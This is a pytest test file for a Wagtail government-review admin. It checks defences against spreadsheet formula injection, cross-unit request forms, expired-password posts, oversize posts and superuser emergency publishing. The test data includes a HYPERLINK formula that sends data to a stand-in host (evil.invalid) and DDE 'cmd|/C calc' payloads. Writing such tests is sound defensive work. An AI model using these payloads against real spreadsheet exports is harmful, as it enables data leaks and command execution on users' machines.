"""Smaller security holes, each through the real admin views: formula injection in the XLSX
exports, records detached from their page, request forms of other units, POSTs with an
expired password, oversize posts, and superusers' emergency publishing."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page
from wagtail.test.utils.form_data import rich_text

from wagtail_gov_review.forms.models import AccountRequest, ColumnChangeRequest
from wagtail_gov_review.models import Column, ReviewRecord, Unit
from wagtail_gov_review.monitoring.models import MonthlyStatistics
from wagtail_gov_review.refusals import PublishRefused
from wagtail_gov_review.security.models import PasswordChange

from .form_helpers import page_form, set_stream
from .gate_helpers import CLEAN_BODY, World

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _reviewed_item(title: str):
    """A draft item in the town's column with an approval record on its latest revision."""
    from example_site.portal.models import NewsPage

    column = Page.objects.get(slug="town-news")
    page = column.add_child(instance=NewsPage(title=title, slug="formula-item", live=False))
    revision = page.save_revision()
    ReviewRecord.objects.create(
        page=page,
        page_id_snapshot=page.pk,
        page_title=title,
        revision=revision,
        stage="first",
        action="approve",
        user_name="吴镇科长",
        opinion="+同意",
    )
    return page


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, expected_text: str) -> None:
    cells = _cells(content)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [
        c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
    assert "'" + expected_text in [c.value for c in cells]  # kept, as text


# -- formula injection ----------------------------------------------------------------------------


def test_xlsx_exports_write_formula_like_text_as_text(module_demo, client, login):
    login("admin")
    _reviewed_item(FORMULA)
    batch = reverse("wagtail_gov_review_forms:batch")
    for form in ("responsibility", "secrecy"):
        response = client.get(batch, {"form": form, "format": "xlsx", "export": "1"})
        assert response.status_code == 200
        assert_no_formula(response.content, FORMULA)

    Page.objects.filter(slug="leaders").update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client.get("/admin/gov-review/inspection/?export=xlsx")
    assert response.status_code == 200
    assert_no_formula(response.content, "@SUM(1+1)*cmd|' /C calc'!A0")

    unit = Unit.objects.create(name="-2+3+cmd|' /C calc'!A0", kind="department")
    MonthlyStatistics.objects.create(unit=unit, month=date(2025, 1, 1), submitted=1)
    url = reverse("gov_review_monitoring:statistics")
    response = client.get(url, {"month": "2025-01", "export": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content, unit.name)
    rows = load_workbook(io.BytesIO(response.content)).active
    assert [r for r in rows.iter_rows(values_only=True) if r[0] == "'" + unit.name][0][1] == 1


# -- records detached from their page ---------------------------------------------------------


def test_record_detached_from_its_page_stays_in_the_column_export(module_demo, client, login):
    login("admin")
    page = _reviewed_item("城关镇冬季消防检查情况")
    # The triggers allow a foreign key to become NULL (what on_delete=SET_NULL does).
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {ReviewRecord._meta.db_table} SET page_id = NULL, revision_id = NULL "
            "WHERE page_id_snapshot = %s",
            [page.pk],
        )
    assert ReviewRecord.objects.get(page_id_snapshot=page.pk).page_id is None
    column = Column.objects.get(page__slug="town-news")
    response = client.get(
        reverse("wagtail_gov_review_forms:batch"),
        {"form": "secrecy", "format": "xlsx", "export": "1", "column": column.pk},
    )
    assert response.status_code == 200
    titles = [c.value for c in _cells(response.content)]
    assert "城关镇冬季消防检查情况" in titles


# -- request forms are scoped to the filer's unit -------------------------------------------------


def _town_filer(login):
    user = login("town_editor")
    for codename in ("add_accountrequest", "add_columnchangerequest"):
        user.user_permissions.add(Permission.objects.get(codename=codename))
    return user


def test_request_forms_are_scoped_to_the_filers_unit(module_demo, client, login):
    admin = get_user_model().objects.get(username="admin")
    office = Unit.objects.get(name="区政府办公室")
    town = Unit.objects.get(name="城关镇人民政府")
    others = AccountRequest.objects.create(
        unit=office, username="office_new", role="editor", reason="新增", holder_name="钱某",
        valid_from=date(2026, 1, 1), valid_until=date(2026, 12, 31), requested_by=admin,
    )  # fmt: skip
    _town_filer(login)
    add_url = reverse("gov_review_account_requests:add")
    form_html = client.get(add_url).content.decode()
    assert "城关镇人民政府" in form_html and "区政府办公室" not in form_html

    data = {
        "unit": office.pk, "username": "sneaky", "role": "editor", "reason": "冒名申请",
        "holder_name": "孙某", "phone": "13800000000", "email": "", "valid_from": "2026-12-01",
        "valid_until": "2027-12-01",
        "leader_opinion": "",
    }  # fmt: skip
    response = client.post(add_url, data)
    assert response.status_code == 200 and "选择一个有效的选项" in response.content.decode()
    assert not AccountRequest.objects.filter(username="sneaky").exists()
    data.update(unit=town.pk, username="town_new")
    response = client.post(add_url, data)
    assert response.status_code == 302, response.context["form"].errors
    assert AccountRequest.objects.get(username="town_new").unit == town

    listing = client.get(reverse("gov_review_account_requests:index")).content.decode()
    assert "town_new" in listing and "office_new" not in listing
    # The unit-scope middleware answers first (403 with the reason); the views' own scoping
    # (404) stands behind it.
    inspect = reverse("gov_review_account_requests:inspect", args=[others.pk])
    response = client.get(inspect)
    assert response.status_code == 403 and "office_new" not in response.content.decode()
    sheet = reverse("gov_review_account_requests:sheet", args=[others.pk, "html"])
    response = client.get(sheet)
    assert response.status_code == 403 and "office_new" not in response.content.decode()

    column_add = reverse("gov_review_column_requests:add")
    response = client.post(
        column_add,
        {"operation": "change", "unit": office.pk, "page": Page.objects.get(slug="news").pk,
         "reason": "改别人的栏目"},
    )  # fmt: skip
    assert response.status_code == 200
    assert not ColumnChangeRequest.objects.filter(reason="改别人的栏目").exists()


# -- expired passwords --------------------------------------------------------------------------


def _expire_password(user):
    PasswordChange.objects.filter(user=user).update(changed_at=timezone.now() - timedelta(days=200))


def test_expired_password_refuses_posts_but_keeps_the_typed_page_as_draft(
    module_demo, client, login
):
    user = _town_filer(login)
    own = Page.objects.get(title="關於做好冬季防火工作的通知").specific
    edit_url = reverse("wagtailadmin_pages:edit", args=[own.pk])
    data = page_form(client, edit_url)  # the editor was opened before the password expired
    _expire_password(user)

    town = Unit.objects.get(name="城关镇人民政府")
    response = client.post(
        reverse("gov_review_account_requests:add"),
        {"unit": town.pk, "username": "after_expiry", "role": "editor", "reason": "过期后提交",
         "holder_name": "孙某"},
    )  # fmt: skip
    assert response.status_code == 302 and response["Location"] == reverse("wagtailadmin_account")
    assert not AccountRequest.objects.filter(username="after_expiry").exists()

    live_before = Page.objects.get(pk=own.pk).live
    set_stream(data, "body", [("paragraph", rich_text("<p>过期后仍保存的草稿。</p>"))])
    data["title"] = "關於做好冬季防火工作的通知（过期后修订）"
    data["action-publish"] = "action-publish"
    data["action-submit"] = "action-submit"
    response = client.post(edit_url, data, follow=True)
    assert response.redirect_chain, response.content.decode()[:3000]
    assert response.redirect_chain[-1][0] == reverse("wagtailadmin_account")
    assert "仅保存为草稿" in response.content.decode()
    row = Page.objects.get(pk=own.pk)
    assert row.live == live_before and not row.specific.get_latest_revision().approved_go_live_at
    draft = row.specific.get_latest_revision_as_object()
    assert draft.title == "關於做好冬季防火工作的通知（过期后修订）"
    assert not row.specific.workflow_in_progress


# -- oversize posts ---------------------------------------------------------------------------


@override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=4096)
def test_oversize_admin_post_gets_a_chinese_400_page_and_keeps_the_draft(
    module_demo, client, login
):
    login("town_editor")
    own = Page.objects.get(title="關於做好冬季防火工作的通知").specific
    before = own.get_latest_revision().pk
    edit_url = reverse("wagtailadmin_pages:edit", args=[own.pk])
    data = page_form(client, edit_url)
    data["title"] = "超大" * 5000
    response = client.post(edit_url, data)
    assert response.status_code == 400
    html = response.content.decode()
    assert "超过了 4.0\xa0KB 的上限" in html and "未保存任何内容" in html
    assert Page.objects.get(pk=own.pk).specific.get_latest_revision().pk == before

    with override_settings(DATA_UPLOAD_MAX_NUMBER_FIELDS=5):
        response = client.post(edit_url, {f"f{i}": "x" for i in range(20)})
    assert response.status_code == 400 and "字段或文件" in response.content.decode()


# -- superusers and emergency publishing --------------------------------------------------------


@pytest.fixture
def world(db):
    return World()


def test_superuser_emergency_publish_needs_the_setting_or_an_explicit_grant(world):
    page = world.item(is_emergency=True)
    revision = page.get_latest_revision()
    with pytest.raises(PublishRefused) as refused:
        revision.publish(user=world.admin)
    assert refused.value.codes == ["review"]
    assert not type(page).objects.get(pk=page.pk).live

    with override_settings(WAGTAIL_GOV_REVIEW={"GATE": {"SUPERUSER_EMERGENCY": True}}):
        revision.publish(user=world.admin)
    row = type(page).objects.get(pk=page.pk)
    assert row.live and row.body == CLEAN_BODY

    other = world.item(is_emergency=True)
    world.admin.user_permissions.add(Permission.objects.get(codename="emergency_publish"))
    world.admin = get_user_model().objects.get(pk=world.admin.pk)  # fresh permission cache
    other.get_latest_revision().publish(user=world.admin)
    assert type(other).objects.get(pk=other.pk).live
